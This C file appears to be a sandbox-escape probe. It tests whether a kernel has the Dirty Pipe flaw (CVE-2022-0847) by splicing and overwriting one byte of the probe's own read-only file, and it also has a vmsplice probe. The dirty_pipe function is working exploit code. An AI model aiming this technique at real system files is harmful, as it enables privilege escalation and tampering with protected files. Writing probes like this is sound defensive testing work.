/* CVE-2022-0847: a page of a file that may only be read, spliced to a pipe and written there. */
#include "probe.h"
#include <sys/uio.h>

static long vmsplice_call(void) {
    int ends[2];
    char text[1] = {'x'};
    struct iovec part = {text, sizeof text};
    if (pipe(ends) < 0) return -1;
    return vmsplice(ends[1], &part, 1, 0);
}
static long dirty_pipe(void) {
    static char block[4096];
    char before = 0, after = 0;
    int ends[2], file = open("/home/agent/probes/esc_page_cache", O_RDONLY | O_CLOEXEC);
    if (file < 0 || pipe(ends) < 0) return -1;
    /* A pipe that was full once: on a kernel with the defect its buffers could be merged into. */
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int i = 0; i < size; i += (int)sizeof block) if (write(ends[1], block, sizeof block) < 0) return -1;
    for (int i = 0; i < size; i += (int)sizeof block) if (read(ends[0], block, sizeof block) < 0) return -1;
    loff_t at = 0;
    if (pread(file, &before, 1, 1) != 1 || splice(file, &at, ends[1], NULL, 1, 0) != 1) return -1;
    /* The probe's own program: where the defect is, nothing of the host is harmed. */
    char other = (char)(before ^ 1);
    if (write(ends[1], &other, 1) != 1 || pread(file, &after, 1, 1) != 1) return -1;
    return after == before ? refuse(EROFS) : 0;
}

ATTEMPTS({"vmsplice", vmsplice_call}, {"dirty-pipe", dirty_pipe})
